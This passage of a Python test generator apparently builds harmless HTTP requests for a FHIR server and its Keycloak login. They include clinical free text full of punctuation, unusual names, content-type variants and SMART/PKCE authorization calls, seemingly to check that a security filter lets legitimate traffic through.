    "Pets at home: dog | cat",
    "Hx: HTN | echo normal",
    "ECG normal; echo - EF 55%",
    "Pt uses nc (nasal cannula) 2L; nc changed",
    "Take with food (morning) (!)",
    "Scan saved to file: /scans/2026/x.pdf",
    "Growth charts: ftp://ftp.cdc.gov/pub/Health_Statistics/NCHS/growthcharts/",
    "Per falls policy https://intranet.hospital.local/policy",
    # more of the same families: quotes, semicolons, pipes, parentheses, ampersands, URLs, code, dosage
    "Dosage: 1-2 tabs q4-6h prn; max 8/day",
    "Alert logic: if (x > 5) then page on-call",
    "Labs: Na 138 | K 4.1 | Cl 101 | HCO3 24",
    "Mother's hx: 'diabetes' & 'HTN'; father's: none",
    "Pt's daughter (HCP) requested a copy; sent via portal",
    "BP 'high' or 140/90 -- recheck in 1 week",
    "Discussed risks & benefits; pt agrees (consent signed)",
    'Instructions: "take at night"; avoid alcohol',
    "O'Neil & Sons pharmacy; fax 555-0100",
    "Follow-up: cardiology | endocrinology | PCP",
    "Pt states 'select foods trigger rash' (nuts; shellfish)",
    "Ref: https://www.cdc.gov/vaccines/schedules/ (adult schedule)",
]
CONTENT_TYPES_JSON = [
    ("application/fhir+json; fhirVersion=4.0", "fhirVersion parameter (FHIR R4 media type)"),
    ("application/json+fhir", "legacy DSTU2 JSON media type"),
    ("application/fhir+json; charset=utf-8; fhirVersion=4.0", "charset and fhirVersion parameters"),
    ("application/json", "plain JSON media type"),
]
CONTENT_TYPES_XML = [
    ("application/fhir+xml; fhirVersion=4.0", "fhirVersion parameter (FHIR R4 media type)"),
    ("application/xml+fhir", "legacy DSTU2 XML media type"),
    ("text/xml", "text/xml"),
    ("application/xml", "plain XML media type"),
]
MINI_PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    "trailer<</Root 1 0 R>>\n%%EOF\n"
)
PKCE_CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
PKCE_VERIFIER = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
PUBLIC_CLIENT = "fhirfort-public-app"
FHIR_AUD = "https://fhir.fhirfort.test/fhir"


def _xml_patient(family: str, given: str) -> str:
    return xml_resource(
        "Patient",
        f'<text><status value="generated"/><div xmlns="{XHTML_NS}"><p>{given} {xml_attr(family)}</p></div></text>'
        f'<name><family value="{xml_attr(family)}"/><given value="{given}"/></name>',
    )


def clinical_wording(b: Builder) -> None:
    for i, div in enumerate(CLINICAL_NARRATIVES):
        body = patient("Narrative", ["Alex", "Sam", "Kim"][i % 3], text=narrative(div))
        b.add(
            "create_json",
            "POST",
            "{base}/Patient",
            headers=[FJ],
            body=dumps(body),
            note=f"narrative XHTML with clinical wording: {div}",
        )
    for i, text in enumerate(CLINICAL_FREE_TEXT):
        slot = i % 4
        if slot == 0:
            body, where = observation("see note", note=[{"text": text}]), "note.text"
        elif slot == 1:
            body, where = observation(text), "valueString"
        elif slot == 2:
            body, where = observation(text, note=[{"text": text}]), "valueString and note.text"
        else:
            body = tagged(
                {
                    "resourceType": "DocumentReference",
                    "status": "current",
                    "subject": {"reference": "Patient/p-obrien"},
                    "description": text,
                    "content": [{"attachment": {"contentType": "text/plain", "title": "note.txt"}}],
                }
            )
            where = "DocumentReference.description"
        target = "{base}/DocumentReference" if slot == 3 else "{base}/Observation"
        b.add(
            "create_json", "POST", target, headers=[FJ], body=dumps(body), note=f"clinical free text in {where}: {text}"
        )


def wording_searches(b: Builder) -> None:
    cases = [
        (
            "search_clinical",
            "Patient",
            [("identifier", "http://hospital.local/mrn|1")],
            "identifier with an http system",
        ),
        (
            "search_clinical",
            "Patient",
            [("identifier", "https://intranet.hospital.local/mrn|A-12")],
            "identifier, intranet system",
        ),
        ("search_names", "Patient", [("address-city", "Coeur d'Alene")], "city with an apostrophe"),
        ("search_names", "Patient", [("name", "'t Hooft")], "name starting with an apostrophe"),
        ("search_names", "Patient", [("given", "Marie-Thérèse")], "hyphen and diacritics"),
        ("search_names", "Patient", [("name", "张伟")], "CJK name"),
        ("search_names", "Patient", [("family", "Null")], "the surname Null"),
        ("search_names", "Organization", [("name", "O'Neil & Sons")], "organisation name with & and an apostrophe"),
        ("search_names", "Patient", [("address", "1/2 Main St; Apt 4")], "address with a slash and a semicolon"),
    ]
    for cls, res, params, what in cases:
        b.add(cls, "GET", search(res, params), note=what)
    body = patient("Hospital-Local", identifier=[{"system": "http://hospital.local/mrn", "value": "SUITE-H-001"}])
    b.add(
        "conditional",
        "POST",
        "{base}/Patient",
        headers=[FJ, ("If-None-Exist", "identifier=http%3A%2F%2Fhospital.local%2Fmrn%7CSUITE-H-001")],
        body=dumps(body),
        note="conditional create on an identifier with an http system",
    )


def protocol_variants(b: Builder) -> None:
    for ctype, what in CONTENT_TYPES_JSON:
        body = dumps(patient("MediaType", "Json"))
        b.add(
            "create_json",
            "POST",
            "{base}/Patient",
            headers=[("Content-Type", ctype)],
            body=body,
            note=f"Content-Type {what}",
        )
    for ctype, what in CONTENT_TYPES_XML:
        body = _xml_patient("MediaType", "Xml")
        b.add(
            "create_xml",
            "POST",
            "{base}/Patient",
            headers=[("Content-Type", ctype)],
            body=body,
            note=f"Content-Type {what}",
        )
    for accept, what in [
        ("application/fhir+json, text/html;q=0.1", "prefers FHIR JSON, HTML with a low weight"),
        ("application/fhir+xml;q=1.0, application/fhir+json;q=0.9", "weighted FHIR XML / JSON"),
        ("application/json, text/plain, */*", "a browser HTTP client's default"),
    ]:
        b.add("read", "GET", "{base}/Patient/p-obrien", headers=[("Accept", accept)], note=f"Accept: {what}")
    b.add(
        "attachment",
        "POST",
        "{base}/Binary",
        headers=[("Content-Type", "application/pdf")],
        body=MINI_PDF,
        note="raw Binary upload in its native content type (not tagged: leaves one Binary per run)",
    )
    # own lifecycle groups continue gen_legit.own_lifecycle (leg-own-000..014)
    rid = "fhirfort-suite-015"
    body = patient("XmlPatch", "Pat")
    body["id"] = rid
    b.add(
        "own",
        "PUT",
        f"{{base}}/Patient/{rid}",
        headers=[FJ],
        body=dumps(body),
        note="update-as-create by id",
        ident="leg-own-015-put",
    )
    b.add(
        "own",
        "PATCH",
        f"{{base}}/Patient/{rid}",
        headers=[("Content-Type", "application/xml-patch+xml")],
        body='<diff xmlns:f="http://hl7.org/fhir"><replace sel="/f:Patient/f:gender/@value">female</replace></diff>',
        phase=1,
        note="XML Patch (RFC 5261)",
        ident="leg-own-015-patch",
    )
    b.add("own", "DELETE", f"{{base}}/Patient/{rid}", phase=2, note="delete own resource", ident="leg-own-015-delete")
    rid = "fhirfort-suite-016"
    b.add(
        "own",
        "PUT",
        f"{{base}}/Binary/{rid}",
        headers=[("Content-Type", "application/pdf")],
        body=MINI_PDF,
        note="raw Binary update-as-create in its native content type",
        ident="leg-own-016-put",
    )
    b.add("own", "DELETE", f"{{base}}/Binary/{rid}", phase=2, note="delete own Binary", ident="leg-own-016-delete")


def _authorize(redirect_uri: str, scope: str = "openid fhirUser launch/patient patient/*.rs") -> str:
    q = urlencode(
        {
            "response_type": "code",
            "client_id": PUBLIC_CLIENT,
            "redirect_uri": redirect_uri,
            "scope": scope,
            "state": "af0ifjsldkj",
            "aud": FHIR_AUD,
            "code_challenge": PKCE_CHALLENGE,
            "code_challenge_method": "S256",
        }
    )
    return "/realms/fhirfort/protocol/openid-connect/auth?" + q


def identity_requests(b: Builder) -> None:
    """SMART / OIDC through the edge. Native apps redirect to a loopback address (RFC 8252 7.3); Keycloak's own
    400 about a redirect URI the client has not registered is an application answer, not a refusal."""
    cases = [
        (_authorize("http://127.0.0.1:53682/callback"), "authorize, RFC 8252 IPv4 loopback redirect"),
        (_authorize("http://[::1]:53682/callback"), "authorize, RFC 8252 IPv6 loopback redirect"),
        (
            _authorize(
                "https://app.fhirfort.test/callback",
                "launch/patient patient/Observation.rs?category="
                "http://terminology.hl7.org/CodeSystem/observation-category|laboratory",
            ),
            "authorize, SMART v2 scope with a query",
        ),
    ]
    for target, what in cases:
        b.add("identity", "GET", target, note=what)
    token = urlencode(
        {
            "grant_type": "authorization_code",
            "code": "abc.def.ghi",
            "redirect_uri": "http://127.0.0.1:53682/callback",
            "client_id": PUBLIC_CLIENT,
            "code_verifier": PKCE_VERIFIER,
        }
    )
    b.add(
        "identity",
        "POST",
        "/realms/fhirfort/protocol/openid-connect/token",
        headers=[FORM],
        body=token,
        note="token request with a loopback redirect_uri (the code is invalid: Keycloak answers 400)",
    )
    for password in ["Pa$$(word)1", "Tr0ub4dor&3;horse"]:
        b.add(
            "identity",
            "POST",
            "/realms/fhirfort/login-actions/authenticate?session_code=abc&execution=def&client_id="
            f"{PUBLIC_CLIENT}&tab_id=x",
            headers=[FORM],
            body=urlencode({"username": "alice", "password": password}),
            note=f"login form, password {password} (stale session: Keycloak answers, nothing is checked)",
        )


LEGIT_FAMILIES = (clinical_wording, wording_searches, protocol_variants, identity_requests)


def legit(b: Builder) -> None:
    for family in LEGIT_FAMILIES:
        family(b)
